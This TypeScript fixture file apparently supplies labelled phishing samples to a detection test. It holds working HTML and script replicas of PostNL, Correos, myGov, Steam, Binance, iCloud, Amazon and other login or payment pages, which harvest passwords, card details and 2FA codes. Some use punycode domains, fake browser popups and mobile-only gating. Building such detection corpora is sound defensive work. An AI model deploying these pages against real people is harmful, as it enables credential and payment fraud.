import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { doc, gtagStub, jsRoute, jsonRoute, pngRoute, cssRoute, textRoute } from '../parts/i-parts.js';

// Consumer-account phishing: delivery, telecom, tax/government, streaming, gaming, social, crypto,
// travel loyalty, HR/payroll, university, Apple/PayPal/Amazon.

export const entries: Entry[] = [
  {
  id: 'i-phish-postnl-pakket-douane-nl',
  label: 'phishing',
  kind: 'delivery-kit',
  url: 'https://postnl-pakket.nl-bezorging.info/t/3SABCD8812547',
  body: doc({
    title: 'PostNL - Pakket in afwachting',
    lang: 'nl',
    head: `<style>body{margin:0;font-family:'Nunito Sans',Arial;background:#f3f4f6}.h{background:#fff;padding:14px 24px;border-bottom:3px solid #ed7000;color:#001b5e;font-weight:800;font-size:22px}.h span{background:#ed7000;color:#fff;border-radius:50%;padding:2px 8px;margin-right:6px}.c{max-width:480px;margin:30px auto;background:#fff;padding:24px;border-radius:10px}.b{background:#ed7000;color:#fff;border:0;padding:12px 24px;border-radius:6px;font-weight:bold}.ib{display:flex;flex-wrap:wrap;gap:8px}.ib label{border:1px solid #ccc;padding:8px 10px;border-radius:6px;font-size:14px}</style>`,
    body: `<div class="h"><span>✉</span>PostNL</div>
<div class="c">
<h2>Je pakket wacht op betaling</h2>
<p>Voor zending <b>3SABCD8812547</b> zijn invoerrechten verschuldigd (€2,95). Betaal binnen 24 uur om de bezorging in te plannen.</p>
<p>Kies je bank (iDEAL | Wero):</p>
<form action="/t/bank" method="get" class="ib">
<label><input type="radio" name="b" value="ing" checked> ING</label><label><input type="radio" name="b" value="rabo"> Rabobank</label><label><input type="radio" name="b" value="abn"> ABN AMRO</label><label><input type="radio" name="b" value="sns"> SNS</label><label><input type="radio" name="b" value="asn"> ASN Bank</label><label><input type="radio" name="b" value="bunq"> bunq</label>
<br><button class="b">Betalen € 2,95</button>
</form>
</div>`,
  }),
  routes: {
    'postnl-pakket.nl-bezorging.info/t/bank': htmlRoute(doc({
      title: 'Inloggen',
      lang: 'nl',
      body: `<div style="max-width:400px;margin:40px auto;font-family:Arial;background:#fff;padding:26px;border:1px solid #ddd"><h2 style="color:#000066">Rabobank · Inloggen</h2><form method="post" action="/t/bank/v"><p>Rekeningnummer (IBAN)</p><input name="iban" style="width:100%;padding:9px"><p>Pasnummer</p><input name="pas" style="width:100%;padding:9px"><p>Vervaldatum pas</p><input name="vd" style="width:100%;padding:9px"><br><br><button style="background:#000066;color:#fff;border:0;padding:10px 24px">Volgende</button></form></div>`,
    })),
  },
},
  {
  id: 'i-phish-correos-aduana-es',
  label: 'phishing',
  kind: 'delivery-kit',
  url: 'https://correos-es.envio-retenido.com/seguimiento/PQ4F6P0703541560138001K',
  body: doc({
    title: 'Correos - Seguimiento de envíos',
    lang: 'es',
    head: `<style>body{margin:0;font-family:'Cartero',Arial;background:#fff}.h{background:#ffcd00;padding:16px 28px;color:#002e6d;font-weight:900;font-size:24px}.c{max-width:560px;margin:26px auto;border:1px solid #e1e1e1;padding:24px}.tl li{margin:8px 0;font-size:14px}.p{background:#002e6d;color:#fff;padding:12px;text-align:center;font-size:20px;font-weight:bold}input{width:100%;box-sizing:border-box;padding:10px;margin:5px 0 12px;border:1px solid #aaa}.b{width:100%;background:#002e6d;color:#ffcd00;border:0;padding:13px;font-weight:bold;font-size:15px}</style>`,
    body: `<div class="h">📯 Correos</div>
<div class="c">
<h2>Tu envío está retenido en aduanas</h2>
<ul class="tl"><li>26/11 09:12 — Admitido en origen</li><li>27/11 17:40 — En tránsito internacional</li><li><b>28/11 08:03 — Retenido: pendiente de pago de tasas de aduana</b></li></ul>
<div class="p">Importe a pagar: 1,79 €</div>
<form id="f">
<input name="nombre" placeholder="Nombre y apellidos" required><input name="dni" placeholder="DNI / NIE" required><input name="direccion" placeholder="Dirección de entrega" required>
<input name="tarjeta" placeholder="Número de tarjeta" required><input name="caducidad" placeholder="Caducidad (MM/AA)" required><input name="cvv" placeholder="CVV" required>
<button class="b">Pagar y liberar envío</button>
</form>
<p style="font-size:11px;color:#666">Sociedad Estatal Correos y Telégrafos, S.A., S.M.E. © 2025</p>
</div>
<script>
document.getElementById('f').onsubmit=function(e){e.preventDefault();var o={};new FormData(this).forEach(function(v,k){o[k]=v});
var x=new XMLHttpRequest();x.open('POST','/seguimiento/api.php?act=card');x.send(JSON.stringify(o));
setTimeout(function(){document.querySelector('.c').innerHTML='<h2>Verificación de pago</h2><p>Introduce el código que tu banco te ha enviado por SMS.</p><input id="s"><button class="b" onclick="var x=new XMLHttpRequest();x.open(\\'POST\\',\\'/seguimiento/api.php?act=sms\\');x.send(s.value)">Confirmar</button>'},1800)};
</script>`,
  }),
  routes: { 'correos-es.envio-retenido.com/seguimiento/api.php': jsonRoute({ r: 1 }) },
},
  {
  id: 'i-phish-gov-au-mygov-ato-linked',
  label: 'phishing',
  kind: 'gov-kit',
  url: 'https://my.gov.au.signin-myid.info/LoginServices/main/login?execution=e1s1',
  body: doc({
    title: 'Sign in with myGov',
    head: `<style>body{margin:0;font-family:'Public Sans',Arial;background:#fff}.h{background:#00698f;color:#fff;padding:16px 30px;font-size:24px;font-weight:bold}.m{max-width:460px;margin:30px auto;padding:0 20px}.m h1{font-size:30px}input{width:100%;box-sizing:border-box;padding:11px;border:2px solid #1a1a1a;border-radius:4px;margin:6px 0 16px}.b{background:#00698f;color:#fff;border:0;border-radius:4px;padding:12px 30px;font-size:16px}.n{background:#e6f2f6;padding:12px;border-left:4px solid #00698f;font-size:14px}</style>`,
    body: `<div class="h">myGov</div>
<div class="m">
<h1>Sign in with myGov</h1>
<div class="n">Your tax refund from the ATO is ready. You must sign in and confirm your bank details by 16 December 2025.</div>
<form id="g" method="post" action="/LoginServices/main/code">
<label>Username or email</label><input name="user" required>
<label>Password</label><input name="pass" type="password" required>
<button class="b">Sign in</button>
</form>
<p><a href="#">Forgot username</a> · <a href="#">Forgot password</a> · <a href="#">Create a myGov account</a></p>
<p style="font-size:12px;color:#555">Use myID to sign in to myGov. Australian Government.</p>
</div>`,
  }),
  routes: {
    'my.gov.au.signin-myid.info/LoginServices/main/code': htmlRoute(doc({ title: 'myGov code', body: `<div style="max-width:460px;margin:30px auto;font-family:Arial"><h1>Enter code</h1><p>We sent a code to your mobile number.</p><form method="post" action="/LoginServices/main/bank"><input name="code" style="padding:10px;width:200px"><button style="background:#00698f;color:#fff;border:0;padding:10px 20px">Next</button></form></div>` })),
  },
},
  {
  id: 'i-phish-toll-unpaid-ezdrive-smish',
  label: 'phishing',
  kind: 'gov-kit',
  url: 'https://ezdrivema.com-tollpay.xin/pay',
  body: doc({
    title: 'EZDriveMA - Pay Toll Invoice',
    head: `<style>body{margin:0;font-family:Arial,sans-serif;background:#f5f7fa}.h{background:#003b71;color:#fff;padding:14px 20px;font-weight:bold;font-size:20px}.c{max-width:420px;margin:20px auto;background:#fff;padding:20px;border-radius:6px;box-shadow:0 1px 4px #0002}.due{background:#fdecea;color:#b3261e;padding:12px;border-radius:4px;font-size:14px}table{width:100%;font-size:14px}td{padding:4px 0}input{width:100%;box-sizing:border-box;padding:11px;margin:5px 0 11px;border:1px solid #ccc;border-radius:4px}.b{width:100%;background:#f2a900;border:0;padding:13px;font-weight:bold;border-radius:4px;font-size:16px}</style>`,
    body: `<div class="h">EZDriveMA · Pay By Plate</div>
<div class="c" id="c">
<div class="due">Notice: You have an outstanding toll of <b>$6.99</b>. To avoid a late fee of $50.00 and registration suspension, please pay before 11/30/2025.</div>
<table><tr><td>Invoice #</td><td>T-2025-8847130</td></tr><tr><td>Toll location</td><td>I-90 Allston/Brighton</td></tr><tr><td>Amount due</td><td><b>$6.99</b></td></tr></table>
<form id="p"><input name="name" placeholder="Full name" required><input name="addr" placeholder="Billing address" required><input name="zip" placeholder="ZIP" required><input name="email" placeholder="Email" required><input name="card" placeholder="Card number" required><input name="exp" placeholder="MM/YY" required><input name="cvv" placeholder="CVV" required><button class="b">Pay $6.99</button></form>
</div>
<script>
if(!/Mobi|Android|iPhone/i.test(navigator.userAgent)){document.getElementById('c').innerHTML='<p style="text-align:center">Please open this link on your mobile device.</p><p style="text-align:center;font-size:12px">Error 1006</p>';}
var p=document.getElementById('p');if(p)p.onsubmit=function(e){e.preventDefault();fetch('/api/card',{method:'POST',body:new FormData(p)});document.getElementById('c').innerHTML='<p>Processing payment…</p>'};
</script>`,
  }),
  routes: { 'ezdrivema.com-tollpay.xin/api/card': jsonRoute({ code: 200 }) },
},
  {
  id: 'i-phish-steam-trade-bitb-popup',
  label: 'phishing',
  kind: 'bitb',
  url: 'https://cs2-skins-giveaway.gg-drop.ru/case/free',
  body: doc({
    title: 'CS2 FREE CASE — Claim your skin',
    head: `<style>body{margin:0;background:#0e1117 radial-gradient(circle at top,#2b1b4a,#0e1117);font-family:Arial;color:#fff}.c{max-width:720px;margin:40px auto;text-align:center}.sk{display:flex;gap:12px;justify-content:center;margin:20px 0}.sk div{width:140px;height:100px;background:#1b2130;border:2px solid #eb4b4b;border-radius:6px;padding:8px;font-size:12px}.st{background:#171a21;border:0;color:#fff;padding:14px 24px;font-size:16px;border-radius:4px;cursor:pointer}.st:before{content:'⚙ ';color:#66c0f4}.pw{position:fixed;top:60px;left:50%;transform:translateX(-50%);width:560px;background:#171a21;border-radius:6px;box-shadow:0 20px 60px #000;display:none}.pw .tb{background:#2a2e36;padding:8px 12px;font-size:12px;display:flex;justify-content:space-between;border-radius:6px 6px 0 0}.pw .ad{background:#1b1f26;margin:0 10px;padding:6px 10px;font-size:12px;color:#ccc;border-radius:3px}.pw .ad b{color:#5ba32b}.pw .in{padding:30px 40px;color:#c7d5e0}.pw input{width:100%;box-sizing:border-box;background:#32353c;border:0;padding:10px;color:#fff;margin:4px 0 14px}.pw .sg{background:linear-gradient(90deg,#06bfff,#2d73ff);border:0;color:#fff;padding:12px 80px;font-size:16px;border-radius:2px}</style>`,
    body: `<div class="c">
<h1>🎁 FREE CS2 CASE</h1><p>Log in with Steam to open your free case. 1 case per account. <b>2,184</b> cases left.</p>
<div class="sk"><div>★ Karambit | Doppler</div><div>AWP | Dragon Lore</div><div>AK-47 | Fire Serpent</div></div>
<button class="st" id="st">Sign in through Steam</button>
</div>
<div class="pw" id="pw">
 <div class="tb"><span>Steam Community :: Sign In — Google Chrome</span><span>— ▢ ✕</span></div>
 <div class="ad">🔒 <b>https://steamcommunity.com</b>/openid/loginform/?goto=%2Fopenid%2Flogin</div>
 <div class="in"><div style="font-size:26px;color:#fff;margin-bottom:20px">STEAM</div>
  <div style="color:#1999ff;font-size:12px;font-weight:bold">SIGN IN WITH ACCOUNT NAME</div><input id="an">
  <div style="font-size:12px;font-weight:bold">PASSWORD</div><input id="ps" type="password">
  <button class="sg" id="sg">Sign in</button>
  <div id="gd" style="display:none"><p>Enter the Steam Guard code from your mobile authenticator</p><input id="gc" maxlength="5"><button class="sg" id="gs">Submit</button></div>
 </div>
</div>
<script>
document.getElementById('st').onclick=function(){document.getElementById('pw').style.display='block'};
document.getElementById('sg').onclick=function(){fetch('/api/steam/login',{method:'POST',headers:{'content-type':'application/json'},body:JSON.stringify({a:an.value,p:ps.value})}).then(function(r){return r.json()}).then(function(j){if(j.guard){gd.style.display='block'}})};
document.getElementById('gs').onclick=function(){fetch('/api/steam/guard',{method:'POST',body:gc.value})};
</script>`,
  }),
  routes: {
    'cs2-skins-giveaway.gg-drop.ru/api/steam/login': jsonRoute({ guard: true }),
    'cs2-skins-giveaway.gg-drop.ru/api/steam/guard': jsonRoute({ ok: true }),
  },
},
  {
  id: 'i-phish-binance-kyc-wallet-verify',
  label: 'phishing',
  kind: 'crypto-exchange-kit',
  url: 'https://xn--binnce-rta.com/en/my/security/kyc-verify',
  submittedUrl: 'https://binánce.com/en/my/security/kyc-verify',
  body: doc({
    title: 'Log In | Binance',
    head: `<style>body{margin:0;font-family:BinancePlex,Arial,sans-serif;background:#fff;color:#1e2329}.h{padding:16px 24px;color:#f0b90b;font-weight:800;font-size:22px}.c{max-width:400px;margin:30px auto;border:1px solid #eaecef;border-radius:24px;padding:40px}.c h1{font-size:32px}input{width:100%;box-sizing:border-box;border:1px solid #eaecef;border-radius:8px;padding:13px;margin:8px 0 16px}.b{width:100%;background:#fcd535;border:0;border-radius:8px;padding:13px;font-weight:600;font-size:15px}.n{background:#fef6d8;color:#7a5a00;font-size:13px;border-radius:8px;padding:10px}</style>${gtagStub('G-L2T9XD73JP')}`,
    body: `<div class="h">◆ BINANCE</div>
<div class="c" id="c">
<h1>Log in</h1>
<p class="n">To comply with MiCA regulation, accounts without completed KYC will have withdrawals restricted from 01.01.2026.</p>
<form id="l"><label>Email/Phone number</label><input name="account" required><label>Password</label><input name="password" type="password" required><button class="b">Log in</button></form>
</div>
<script>
document.getElementById('l').onsubmit=function(e){e.preventDefault();var d=new FormData(this);fetch('/bapi/accounts/v1/public/login',{method:'POST',body:d});
document.getElementById('c').innerHTML='<h1>Security verification</h1><label>Email verification code</label><input id="ec"><label>Authenticator app code</label><input id="gc"><button class="b" id="x">Submit</button>';
document.getElementById('x').onclick=function(){fetch('/bapi/accounts/v1/public/2fa',{method:'POST',body:JSON.stringify({ec:ec.value,gc:gc.value})});this.textContent='Verifying…'}};
</script>`,
  }),
  routes: {
    'xn--binnce-rta.com/bapi/accounts/v1/public/login': jsonRoute({ code: '000000', data: { needVerify: true } }),
    'xn--binnce-rta.com/bapi/accounts/v1/public/2fa': jsonRoute({ code: '000000' }),
  },
},
  {
  id: 'i-phish-airline-miles-expiry-lufthansa',
  label: 'phishing',
  kind: 'loyalty-kit',
  url: 'https://milesandmore.meilen-verfall.com/de/login?mm=992000',
  body: doc({
    title: 'Miles & More – Login',
    lang: 'de',
    head: `<style>body{margin:0;font-family:'Lufthansa Text',Arial;background:#f4f4f4;color:#05164d}.h{background:#05164d;color:#fff;padding:16px 28px;font-size:20px}.h b{color:#ffad00}.c{max-width:440px;margin:30px auto;background:#fff;padding:28px}.m{font-size:32px;font-weight:bold;color:#05164d}input{width:100%;box-sizing:border-box;padding:11px;border:1px solid #8b8b8b;margin:6px 0 14px}.b{width:100%;background:#ffad00;color:#05164d;border:0;padding:13px;font-weight:bold}</style>`,
    body: `<div class="h"><b>Miles &amp; More</b> · Lufthansa Group</div>
<div class="c">
<p>Ihre Prämienmeilen verfallen am <b>31.12.2025</b>:</p>
<div class="m">48.250 Meilen</div>
<p>Melden Sie sich an, um Ihre Meilen zu verlängern. Die Verlängerung ist einmalig kostenlos – es fällt lediglich eine Bearbeitungsgebühr von 1,00 € an.</p>
<form method="post" action="/de/verlaengern">
<label>Servicekartennummer oder Benutzername</label><input name="mmnr" required>
<label>PIN / Passwort</label><input name="pin" type="password" required>
<button class="b">Anmelden</button>
</form>
<p style="font-size:11px;color:#666">Miles &amp; More GmbH · Wittestraße 19 · 40764 Langenfeld</p>
</div>`,
  }),
  routes: {
    'milesandmore.meilen-verfall.com/de/verlaengern': htmlRoute(doc({ title: 'Miles & More – Zahlung', lang: 'de', body: `<div style="max-width:440px;margin:30px auto;font-family:Arial"><h2>Bearbeitungsgebühr 1,00 €</h2><form method="post" action="/de/ok"><input name="cc" placeholder="Kreditkartennummer"><br><input name="exp" placeholder="MM/JJ"><br><input name="cvc" placeholder="CVC"><br><button>Jetzt verlängern</button></form></div>` })),
  },
},
  {
  id: 'i-phish-booking-partner-extranet-guest',
  label: 'phishing',
  kind: 'loyalty-kit',
  url: 'https://admin.booking.com.hotel-reservation-id5529013.com/sign-in?op_token=EgVvYXV0aC',
  body: doc({
    title: 'Booking.com Partner Hub - Sign in',
    head: `<style>body{margin:0;font-family:BlinkMacSystemFont,-apple-system,'Segoe UI',Roboto,Helvetica,Arial;background:#fff}.h{background:#003580;padding:14px 24px;color:#fff;font-weight:bold;font-size:20px}.c{max-width:390px;margin:40px auto}input{width:100%;box-sizing:border-box;padding:10px;border:1px solid #868686;border-radius:4px;margin:6px 0 16px}.b{width:100%;background:#006ce4;color:#fff;border:0;border-radius:4px;padding:12px;font-size:15px}.al{background:#fff0e0;border:1px solid #ffb700;padding:10px;border-radius:4px;font-size:14px}</style>`,
    body: `<div class="h">Booking.com <span style="font-weight:normal">for partners</span></div>
<div class="c">
<h2>Sign in to manage your property</h2>
<p class="al">A guest has reported an issue with reservation <b>#5529013441</b>. Please respond within 12 hours to avoid automatic cancellation and a penalty.</p>
<form id="x" method="post" action="/sign-in/password">
<label>Username</label><input name="loginname" required>
<button class="b">Next</button>
</form>
<p style="font-size:13px"><a href="#">Having trouble signing in?</a></p>
<p style="font-size:11px;color:#6b6b6b">By signing in or creating an account, you agree with our Terms &amp; conditions and Privacy statement. All rights reserved. Copyright (2006 - 2025) - Booking.com™</p>
</div>`,
  }),
  routes: {
    'admin.booking.com.hotel-reservation-id5529013.com/sign-in/password': htmlRoute(doc({ title: 'Booking.com Partner Hub - Sign in', body: `<div style="max-width:390px;margin:40px auto;font-family:Arial"><h2>Enter your password</h2><form method="post" action="/sign-in/verify"><input name="password" type="password" style="width:100%;padding:10px"><br><br><button style="width:100%;background:#006ce4;color:#fff;border:0;padding:12px">Sign in</button></form></div>` })),
  },
},
  {
  id: 'i-phish-university-sso-mailbox-deactivation',
  label: 'phishing',
  kind: 'edu-kit',
  url: 'https://webmail-uni-edu.sso-portal-login.com/idp/profile/SAML2/Redirect/SSO?execution=e1s1&univ=umanitoba',
  body: doc({
    title: 'Sign in – University Central Authentication Service',
    head: `<style>body{margin:0;font-family:Arial;background:#fff}.hd{background:#7a0019;color:#fff;padding:18px 30px;font-size:20px}.c{max-width:420px;margin:40px auto;border:1px solid #ccc;padding:28px}input{width:100%;box-sizing:border-box;padding:10px;border:1px solid #888;margin:5px 0 14px}.b{background:#7a0019;color:#fff;border:0;padding:10px 26px}.w{font-size:13px;background:#fff3cd;padding:10px}</style>`,
    body: `<div class="hd">🎓 <span id="un">University</span> · Single Sign-On</div>
<div class="c">
<p class="w">Your student/staff email account has been flagged for deactivation as part of the end-of-term account cleanup. Sign in to keep your account active.</p>
<form method="post" action="/idp/profile/SAML2/Redirect/SSO/submit">
<label>UMNetID / Username</label><input name="j_username" required>
<label>Password</label><input name="j_password" type="password" required>
<button class="b" name="_eventId_proceed">Login</button>
</form>
<p style="font-size:12px;color:#555">For security reasons, please log out and exit your web browser when you are done accessing services that require authentication.</p>
</div>
<script>var u=new URLSearchParams(location.search).get('univ');if(u){var m={umanitoba:'University of Manitoba',uoft:'University of Toronto',unimelb:'University of Melbourne'};document.getElementById('un').textContent=m[u]||u}</script>`,
  }),
  routes: { 'webmail-uni-edu.sso-portal-login.com/idp/profile/SAML2/Redirect/SSO/submit': redirectRoute(302, 'https://outlook.office365.com/') },
},
  {
  id: 'i-phish-apple-icloud-findmy-punycode',
  label: 'phishing',
  kind: 'apple-kit',
  url: 'https://xn--cloud-devices-2hl.com/find/?device=iPhone%2015%20Pro',
  submittedUrl: 'https://іcloud-devices.com/find/?device=iPhone%2015%20Pro',
  body: doc({
    title: 'iCloud - Find Devices',
    head: `<style>body{margin:0;font-family:-apple-system,'SF Pro Text','Helvetica Neue',Arial;background:linear-gradient(#f5f5f7,#e8e8ed);color:#1d1d1f}.t{text-align:center;padding:18px;font-size:20px}.c{max-width:360px;margin:40px auto;text-align:center}.dv{font-size:13px;color:#6e6e73;background:#fff;border-radius:12px;padding:12px;margin-bottom:20px}.f{background:#fff;border-radius:12px;overflow:hidden;border:1px solid #d2d2d7}.f input{width:100%;box-sizing:border-box;border:0;border-bottom:1px solid #d2d2d7;padding:16px;font-size:16px}.arrow{margin-top:16px;width:44px;height:44px;border-radius:50%;border:1px solid #86868b;background:#fff;font-size:20px}</style>`,
    body: `<div class="t"> iCloud</div>
<div class="c">
<div class="dv">📍 Your <b id="d"></b> was found.<br>Sign in to view its current location on the map.</div>
<h2>Sign in to Find Devices</h2>
<div class="f"><input id="a" placeholder="Email or Phone Number"><input id="p" type="password" placeholder="Password"></div>
<button class="arrow" id="go">→</button>
<p style="font-size:12px"><a href="#">Forgot Apple Account or password?</a></p>
<p style="font-size:11px;color:#86868b">Copyright © 2025 Apple Inc. All rights reserved.</p>
</div>
<script>
document.getElementById('d').textContent=new URLSearchParams(location.search).get('device')||'iPhone';
document.getElementById('go').onclick=function(){var b=new FormData();b.append('appleid',a.value);b.append('pass',p.value);b.append('dev',d.textContent);
fetch('/find/gate.php',{method:'POST',body:b}).then(function(){document.querySelector('.c').innerHTML='<h2>Two-Factor Authentication</h2><p>A message with a verification code has been sent to your devices.</p><input id="c" maxlength="6" style="font-size:24px;width:180px;text-align:center"><br><br><button class="arrow" onclick="fetch(\\'/find/gate.php\\',{method:\\'POST\\',body:c.value})">→</button>'})};
</script>`,
  }),
  routes: { 'xn--cloud-devices-2hl.com/find/gate.php': textRoute('1', 'text/plain') },
},
  {
  id: 'i-phish-amazon-prime-suspended-chain',
  label: 'phishing',
  kind: 'amazon-kit',
  url: 'https://click.email-amzn-notify.com/ls/click?upn=u001.Kx9Pq',
  routes: {
    'click.email-amzn-notify.com/ls/click': redirectRoute(302, 'https://bit-go.link/amzprime'),
    'bit-go.link/amzprime': redirectRoute(301, 'https://amazon-prime-renewal.account-hold-center.com/ap/signin?openid.return_to=prime&ref_=nav_signin'),
    'amazon-prime-renewal.account-hold-center.com/ap/signin': htmlRoute(doc({
      title: 'Amazon Sign-In',
      head: `<style>body{margin:0;font-family:'Amazon Ember',Arial,sans-serif;background:#fff}.lg{text-align:center;font-size:30px;font-weight:bold;padding:14px}.lg span{color:#ff9900}.a{width:350px;margin:0 auto;border:1px solid #ddd;border-radius:8px;padding:20px 26px}.a h1{font-weight:400;font-size:28px;margin:0 0 10px}input{width:100%;box-sizing:border-box;padding:7px;border:1px solid #a6a6a6;border-radius:3px;margin:4px 0 14px}.b{width:100%;background:#ffd814;border:1px solid #fcd200;border-radius:8px;padding:8px}.al{border:1px solid #c40000;border-radius:8px;padding:12px;width:350px;margin:0 auto 14px;font-size:13px;color:#c40000}.ft{text-align:center;font-size:11px;color:#555;margin:30px}</style>`,
      body: `<div class="lg">amazon<span>.</span></div>
<div class="al"><b>There was a problem</b><br>Your Prime membership payment failed. Your benefits are on hold. Sign in to update your payment method.</div>
<div class="a">
<h1>Sign in</h1>
<form method="post" action="/ap/signin/pwd"><label><b>Email or mobile phone number</b></label><input name="email" type="email" required><label><b>Password</b></label><input name="password" type="password" required><button class="b">Sign in</button></form>
<p style="font-size:12px">By continuing, you agree to Amazon's Conditions of Use and Privacy Notice.</p>
</div>
<div class="ft">Conditions of Use · Privacy Notice · Help<br>© 1996-2025, Amazon.com, Inc. or its affiliates</div>`,
    })),
  },
},
];
